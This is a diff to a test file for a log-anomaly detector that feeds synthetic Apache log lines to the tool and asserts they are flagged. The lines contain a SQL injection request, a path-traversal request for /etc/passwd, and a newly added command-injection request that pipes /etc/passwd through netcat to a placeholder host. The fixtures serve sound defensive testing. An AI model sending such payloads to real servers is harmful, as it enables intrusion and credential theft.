@@ -13,7 +13,7 @@ import { trigramEmbedder } from '../helpers/trigram-embedder.js';
 const BACKGROUND = readFileSync(new URL('../fixtures/cli/elastic-apache-300.log', import.meta.url), 'utf8').trimEnd().split('\n');
 const ATTACKS = [
   `203.0.113.9 - - [17/May/2015:10:05:40 +0000] "GET /index.php?id=1'%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1" 500 312 "-" "sqlmap/1.7"`,
-  `203.0.113.9 - - [17/May/2015:10:05:41 +0000] "GET /../../../../etc/passwd HTTP/1.1" 400 226 "-" "sqlmap/1.7"`,
+  `203.0.113.9 - - [17/May/2015:10:05:41 +0000] "GET /cgi-bin/status?host=;cat%20/etc/passwd|nc%20x%204444 HTTP/1.1" 400 226 "-" "sqlmap/1.7"`,
 ];
 
 function writeLog(lines: string[]): string {
@@ -37,6 +37,7 @@ describe('analyze', () => {
       expect(finding.file).toBe(file);
       expect(lines[finding.line - 1]).toContain(finding.ip);
       expect(finding.reasons.join(' ')).toMatch(/semantic outlier/);
+      expect(finding.reasons.join(' ')).toMatch(/unusual characters|nearest normal/);
       expect(finding.outlierScore).toBeGreaterThan(0);
     }
     const sqli = analysis.lines.find((l) => l.line === 151)!;
